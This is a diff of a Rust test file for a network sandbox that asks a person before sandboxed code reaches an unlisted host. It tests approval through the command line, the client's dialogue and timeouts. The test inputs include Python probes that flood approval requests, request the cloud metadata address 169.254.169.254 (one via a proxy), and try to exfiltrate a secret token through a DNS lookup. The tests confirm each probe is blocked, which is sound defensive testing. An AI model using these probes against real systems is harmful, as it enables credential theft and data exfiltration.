@@ -1,11 +1,8 @@
 //! A program connects to a host that no rule allows, and a person is asked while its connection waits: in the command line, in
 //! the client's dialogue, or not at all.
 
-use super::{World, elsewhere};
-use crate::client::{
-    Server, assert_contains, eventually, json_of, list_of, start, stderr_of, stdout_of, text_of,
-};
-use serde_json::{Value, json};
+use super::World;
+use crate::client::*;
 use std::process::{Command, Stdio};
 
 /// One connection, and what is heard over it.
@@ -21,40 +18,9 @@ fn serve(world: &World, seconds: &str) -> Command {
     command
 }
 
-fn said(world: &World, words: &[&str]) -> Value {
-    let output = world.ringfence(words).output().unwrap();
-    json_of(&output)
-}
-
-fn pending(world: &World) -> Vec<Value> {
-    let listed = said(world, &["approvals", "list", "--json"]);
-    let servers = listed["servers"].as_array().cloned().unwrap_or_default();
-    let requests = servers.iter().filter_map(|server| server["requests"].as_array());
-    requests.flatten().cloned().collect()
-}
-
-fn one_pending(world: &World) -> Value {
-    let mut one = None;
-    eventually(|| {
-        one = pending(world).pop();
-        one.is_some()
-    });
-    one.unwrap()
-}
-
-/// The operator at another terminal.
-fn answer(world: &World, words: &[&str]) -> Value {
-    let request = one_pending(world);
-    let id = text_of(&request["id"]);
-    let words = [&["approvals", words[0], id], &words[1..]].concat();
-    let done = world.ringfence(&words).output().unwrap();
-    assert!(done.status.success(), "{done:?}");
-    request
-}
-
 fn records(world: &World, action: &str) -> Vec<Value> {
-    let said = said(world, &["audit", "list", "--action", action, "--json"]);
-    said["records"].as_array().cloned().unwrap()
+    let said = json_of(&world.said(&["audit", "list", "--action", action, "--json"], []));
+    list_of(&said["records"]).to_vec()
 }
 
 /// The only denial of a result.
@@ -68,24 +34,17 @@ fn denial(result: &Value) -> (String, String) {
 /// claim: [APR-8]
 #[test]
 fn an_approval_asked_by_a_sandboxed_program_decided_in_the_cli_continues_the_same_connection() {
-    if elsewhere(
-        "asks::an_approval_asked_by_a_sandboxed_program_decided_in_the_cli_continues_the_same_connection",
-    ) {
-        return;
-    }
-    let world = World::new("asks");
+    let Some(world) = World::apart() else { return };
     let mut server = Server::of(serve(&world, "60"));
-    let id = server.send_call("execute_code", json!({"code": TLS}));
-    let request = one_pending(&world);
+    let id = server.send_run(json!({"code": TLS}));
+    let request = world.one_pending();
     assert_eq!(world.heard(), [""; 0], "nothing has left the machine yet");
-    assert_eq!(request["what"], "good.test:443", "{request}");
-    assert_eq!(request["scopes"], json!(["once", "namespace"]));
+    request.shows(json!({"what": "good.test:443", "scopes": ["once", "namespace"]}));
     let lines = request["lines"].to_string();
     assert_contains(&lines, ["tries to reach a host", "denied after 60 s"]);
-    answer(&world, &["approve"]);
+    world.answer(&["approve"]);
     let done = server.result(id);
-    assert_eq!(done["result"], "hello from good.test", "{done}");
-    assert_eq!(done["denials"], json!([]));
+    done.shows(json!({"result": "hello from good.test", "denials": []}));
     assert_eq!(request["execution_id"], done["execution_id"]);
     let heard = world.heard();
     let (names, rest): (Vec<&String>, Vec<&String>) =
@@ -98,11 +57,10 @@ fn an_approval_asked_by_a_sandboxed_program_decided_in_the_cli_continues_the_sam
     );
     let decided = records(&world, "approval.decided");
     assert_eq!(decided.len(), 1);
-    assert_eq!(decided[0]["execution_id"], done["execution_id"]);
-    assert_eq!(decided[0]["details"]["scope"], "once");
+    decided[0].shows(json!({"execution_id": done["execution_id"], "details.scope": "once"}));
     // It was for that run: the next is asked about again.
-    let id = server.send_call("execute_code", json!({"code": TLS}));
-    answer(&world, &["deny"]);
+    let id = server.send_run(json!({"code": TLS}));
+    world.answer(&["deny"]);
     let done = server.result(id);
     assert_eq!(
         denial(&done),
@@ -112,7 +70,7 @@ fn an_approval_asked_by_a_sandboxed_program_decided_in_the_cli_continues_the_sam
         )
     );
     // Nobody is asked again what was denied a moment ago.
-    let done = server.facts("execute_code", json!({"code": TLS}));
+    let done = server.run(json!({"code": TLS}));
     assert!(denial(&done).1.contains("denied a moment ago"), "{done}");
     assert_eq!(world.heard(), [""; 0]);
     println!("\n| asked by a program | approved in the CLI | the same connection | hello from good.test | |");
@@ -121,12 +79,9 @@ fn an_approval_asked_by_a_sandboxed_program_decided_in_the_cli_continues_the_sam
 /// claim: [APR-8]
 #[test]
 fn a_question_of_a_program_that_nobody_answers_is_a_denial() {
-    if elsewhere("asks::a_question_of_a_program_that_nobody_answers_is_a_denial") {
-        return;
-    }
-    let world = World::new("expired");
+    let Some(world) = World::apart() else { return };
     let mut server = Server::of(serve(&world, "1"));
-    let done = server.facts("execute_code", json!({"code": TLS}));
+    let done = server.run(json!({"code": TLS}));
     let (rule, what) = denial(&done);
     assert_eq!(rule, "egress.name");
     assert!(what.ends_with("asked, and not answered within 1 s"), "{what}");
@@ -136,10 +91,10 @@ fn a_question_of_a_program_that_nobody_answers_is_a_denial() {
     );
     drop(server);
     let mut server = Server::of(serve(&world, "60"));
-    let id = server.send_call("execute_code", json!({"code": TLS}));
-    one_pending(&world);
+    let id = server.send_run(json!({"code": TLS}));
+    world.one_pending();
     server.cancel(id);
-    eventually(|| pending(&world).is_empty());
+    eventually(|| world.pending().is_empty());
     drop(server);
     let whys: Vec<Value> = records(&world, "approval.decided")
         .iter()
@@ -152,16 +107,13 @@ fn a_question_of_a_program_that_nobody_answers_is_a_denial() {
 /// claim: [APR-8]
 #[test]
 fn a_program_cannot_wear_a_person_down() {
-    if elsewhere("asks::a_program_cannot_wear_a_person_down") {
-        return;
-    }
-    let world = World::new("everything");
+    let Some(world) = World::apart() else { return };
     let mut server = Server::of(serve(&world, "2"));
     let flood = "import socket, threading\nnames = [f'd{n}.test' for n in range(400)] + ['good.test'] * 20\ndef one(name):\n    try:\n        s = socket.create_connection((name, 443), timeout=5)\n        s.recv(1)\n    except OSError:\n        pass\nwhile names:\n    some, names = names[:40], names[40:]\n    threads = [threading.Thread(target=one, args=(name,)) for name in some]\n    [t.start() for t in threads]\n    [t.join() for t in threads]\n'done'";
-    let id = server.send_call("execute_code", json!({"code": flood, "timeout_seconds": 60}));
+    let id = server.send_run(json!({"code": flood, "timeout_seconds": 60}));
     // Meanwhile no more wait than a person can look at.
-    let first = one_pending(&world);
-    assert!(pending(&world).len() <= 4);
+    let first = world.one_pending();
+    assert!(world.pending().len() <= 4);
     let done = server.result(id);
     assert_eq!(done["result"], "done", "{done}");
     let asked = records(&world, "approval.requested");
@@ -183,18 +135,15 @@ fn a_program_cannot_wear_a_person_down() {
 /// claim: [APR-8]
 #[test]
 fn a_yes_to_a_program_opens_nothing_inside() {
-    if elsewhere("asks::a_yes_to_a_program_opens_nothing_inside") {
-        return;
-    }
-    let world = World::new("inside");
+    let Some(world) = World::apart() else { return };
     let mut server = Server::of(serve(&world, "30"));
     let code = "import urllib.request\nurllib.request.urlopen('http://NAME/', timeout=40).read().decode()";
     for (name, leaves) in [
         ("metadata.test", "dns metadata.test"),
         ("sneaky.test", "dns sneaky.test"),
     ] {
-        let id = server.send_call("execute_code", json!({"code": code.replace("NAME", name)}));
-        let asked = answer(&world, &["approve"]);
+        let id = server.send_run(json!({"code": code.replace("NAME", name)}));
+        let asked = world.answer(&["approve"]);
         assert_eq!(asked["what"], format!("{name}:80"));
         let done = server.result(id);
         assert_eq!(denial(&done).0, "egress.address", "{done}");
@@ -212,15 +161,12 @@ fn a_yes_to_a_program_opens_nothing_inside() {
         "10.7.7.7",
         "93.184.216.34",
     ] {
-        let done = server.facts("execute_code", json!({"code": code.replace("NAME", host)}));
+        let done = server.run(json!({"code": code.replace("NAME", host)}));
         assert_eq!(done["success"], false, "{host}: {done}");
         assert!(!list_of(&done["denials"]).is_empty(), "{host}: {done}");
     }
     let by_proxy = "import urllib.request\nproxy = urllib.request.ProxyHandler({'http': 'http://198.18.0.1:3128'})\nurllib.request.build_opener(proxy).open('http://169.254.169.254/', timeout=40).read()";
-    assert_eq!(
-        server.facts("execute_code", json!({"code": by_proxy}))["success"],
-        false
-    );
+    assert_eq!(server.run(json!({"code": by_proxy}))["success"], false);
     assert_eq!(records(&world, "approval.requested").len(), before);
     assert_eq!(world.heard(), [""; 0]);
 }
@@ -228,19 +174,16 @@ fn a_yes_to_a_program_opens_nothing_inside() {
 /// claim: [APR-8]
 #[test]
 fn nobody_is_asked_by_default_or_against_the_callers_word() {
-    if elsewhere("asks::nobody_is_asked_by_default_or_against_the_callers_word") {
-        return;
-    }
-    let world = World::new("deny");
+    let Some(world) = World::apart() else { return };
     // As it is where nobody has set anything.
     let mut server = Server::of(world.ringfence(&["serve"]));
-    let id = server.send_call("execute_code", json!({"code": TLS}));
+    let id = server.send_run(json!({"code": TLS}));
     assert_eq!(denial(&server.result(id)).0, "egress.name");
     drop(server);
     let mut command = world.ringfence(&["serve"]);
     command.env("RINGFENCE_EGRESS_ALLOW", "other.test");
     let mut server = Server::of(command);
-    let id = server.send_call("execute_code", json!({"code": TLS}));
+    let id = server.send_run(json!({"code": TLS}));
     let (rule, what) = denial(&server.result(id));
     assert_eq!(rule, "egress.name");
     assert!(what.starts_with("No network access to good.test:443"), "{what}");
@@ -251,7 +194,7 @@ fn nobody_is_asked_by_default_or_against_the_callers_word() {
     let mut server = Server::of(command);
     for only in [json!([]), json!(["other.test"])] {
         assert_eq!(
-            server.facts("execute_code", json!({"code": TLS, "allowed_domains": only}))["success"],
+            server.run(json!({"code": TLS, "allowed_domains": only}))["success"],
             false
         );
     }
@@ -265,7 +208,7 @@ fn nobody_is_asked_by_default_or_against_the_callers_word() {
         .env("RINGFENCE_SECRET_DEFAULT_TOKEN", "Tok3nOfTheStory9x");
     let mut server = Server::of(command);
     let code = "import os, socket\ns = socket.create_connection((os.environ['TOKEN'] + '.good.test', 443), timeout=40)\ns.recv(1)";
-    let done = server.facts("execute_code", json!({"code": code, "secrets": ["TOKEN"]}));
+    let done = server.run(json!({"code": code, "secrets": ["TOKEN"]}));
     let denials = list_of(&done["denials"]);
     assert!(!denials.is_empty(), "{done}");
     assert!(
@@ -281,23 +224,19 @@ fn nobody_is_asked_by_default_or_against_the_callers_word() {
 
 #[test]
 fn a_session_asks_in_its_calls() {
-    if elsewhere("asks::a_session_asks_in_its_calls") {
-        return;
-    }
-    let world = World::new("session-asks");
+    let Some(world) = World::apart() else { return };
     let mut server = Server::of(serve(&world, "30"));
     let session = server.create(json!({"language": "python"}));
     let call = |code: &str| json!({"code": code, "session_id": session});
     // Once is for that call.
-    let id = server.send_call("execute_code", call(TLS));
-    let request = answer(&world, &["approve"]);
-    assert_eq!(request["scopes"], json!(["once", "session", "namespace"]));
-    assert_eq!(request["session_id"], session);
+    let id = server.send_run(call(TLS));
+    let request = world.answer(&["approve"]);
+    request.shows(json!({"scopes": ["once", "session", "namespace"], "session_id": session}));
     assert_eq!(server.result(id)["result"], "hello from good.test");
-    let id = server.send_call("execute_code", call(TLS));
-    answer(&world, &["approve", "--scope", "session"]);
+    let id = server.send_run(call(TLS));
+    world.answer(&["approve", "--scope", "session"]);
     assert_eq!(server.result(id)["result"], "hello from good.test");
-    let id = server.send_call("execute_code", call(TLS));
+    let id = server.send_run(call(TLS));
     assert_eq!(
         server.result(id)["result"],
         "hello from good.test",
@@ -307,21 +246,18 @@ fn a_session_asks_in_its_calls() {
     world.heard();
     // What goes on between two calls asks nobody.
     let later = "import socket, threading, time\nseen = []\ngo = threading.Event()\ndef run():\n    go.wait()\n    while not seen or seen[-1] != 'refused':\n        try:\n            connection = socket.create_connection(('other.test', 443), timeout=1)\n            seen.append('refused' if connection.recv(1) == b'\\x15' else 'reached')\n        except OSError as error:\n            seen.append(type(error).__name__)\n        time.sleep(0.05)\nthreading.Thread(target=run, daemon=True).start()\nthreading.Timer(0.5, go.set).start()";
-    let id = server.send_call("execute_code", call(later));
+    let id = server.send_run(call(later));
     assert_eq!(server.result(id)["success"], true);
     let seen = call("seen[-1:] == ['refused']");
-    eventually(|| server.facts("execute_code", seen.clone())["result"] == true);
+    eventually(|| server.run(seen.clone())["result"] == true);
     assert_eq!(world.heard(), [""; 0]);
 }
 
 #[test]
 fn a_program_asks_in_the_dialogue_of_the_client_that_runs_it() {
-    if elsewhere("asks::a_program_asks_in_the_dialogue_of_the_client_that_runs_it") {
-        return;
-    }
-    let world = World::new("dialogue");
+    let Some(world) = World::apart() else { return };
     let mut server = Server::able_to(json!({"elicitation": {}}), serve(&world, "60"));
-    let id = server.send_call("execute_code", json!({"code": TLS}));
+    let id = server.send_run(json!({"code": TLS}));
     let dialogue = server.hear("elicitation/create");
     let message = text_of(&dialogue["params"]["message"]);
     assert!(message.contains("host: good.test\n  ports: 443"), "{message}");
@@ -330,23 +266,22 @@ fn a_program_asks_in_the_dialogue_of_the_client_that_runs_it() {
     let done = server.result(id);
     assert_eq!(done["result"], "hello from good.test", "{done}");
     // Decided elsewhere, it is taken back.
-    let id = server.send_call("execute_code", json!({"code": TLS}));
+    let id = server.send_run(json!({"code": TLS}));
     let dialogue = server.hear("elicitation/create");
-    answer(&world, &["approve"]);
+    world.answer(&["approve"]);
     let taken_back = server.hear("notifications/cancelled");
     assert_eq!(taken_back["params"]["requestId"], dialogue["id"]);
     assert_eq!(server.result(id)["result"], "hello from good.test");
     // So it is when the program does not wait for it.
     let impatient = "import os, socket, time\nwaits = socket.create_connection(('other.test', 443), timeout=40)\nwhile not os.path.exists('go'):\n    time.sleep(0.02)";
-    let wish = json!({"code": impatient, "workspace": "namespace"});
-    let id = server.send_call("execute_code", wish);
+    let id = server.send_run(json!({"code": impatient, "workspace": "namespace"}));
     let dialogue = server.hear("elicitation/create");
     let go = json!({"name": "put_file", "arguments": {"path": "go", "text": ""}});
     server.send("tools/call", go);
     let taken_back = server.hear("notifications/cancelled");
     assert_eq!(taken_back["params"]["requestId"], dialogue["id"]);
     assert_eq!(server.result(id)["success"], true);
-    let id = server.send_call("execute_code", json!({"code": TLS}));
+    let id = server.send_run(json!({"code": TLS}));
     let dialogue = server.hear("elicitation/create");
     server.reply(&dialogue, json!({"action": "decline"}));
     let done = server.result(id);
@@ -358,10 +293,7 @@ fn a_program_asks_in_the_dialogue_of_the_client_that_runs_it() {
 
 #[test]
 fn a_script_of_the_command_line_asks_at_another_terminal() {
-    if elsewhere("asks::a_script_of_the_command_line_asks_at_another_terminal") {
-        return;
-    }
-    let world = World::new("run-asks");
+    let Some(world) = World::apart() else { return };
     let script = world.directory.join("script.py");
     std::fs::write(
         &script,
@@ -381,7 +313,7 @@ fn a_script_of_the_command_line_asks_at_another_terminal() {
     };
     for words in [&[][..], &["--allow", "other.test"]] {
         let running = run(words);
-        let request = answer(&world, &["approve"]);
+        let request = world.answer(&["approve"]);
         let done = running.wait_with_output().unwrap();
         assert!(done.status.success(), "{done:?}");
         assert_eq!(stdout_of(&done), "hello from good.test\n", "{done:?}");
@@ -390,7 +322,7 @@ fn a_script_of_the_command_line_asks_at_another_terminal() {
         assert_contains(&told, ["good.test:443", &hint]);
     }
     let running = run(&[]);
-    answer(&world, &["deny"]);
+    world.answer(&["deny"]);
     let done = running.wait_with_output().unwrap();
     let told = stderr_of(&done);
     assert!(
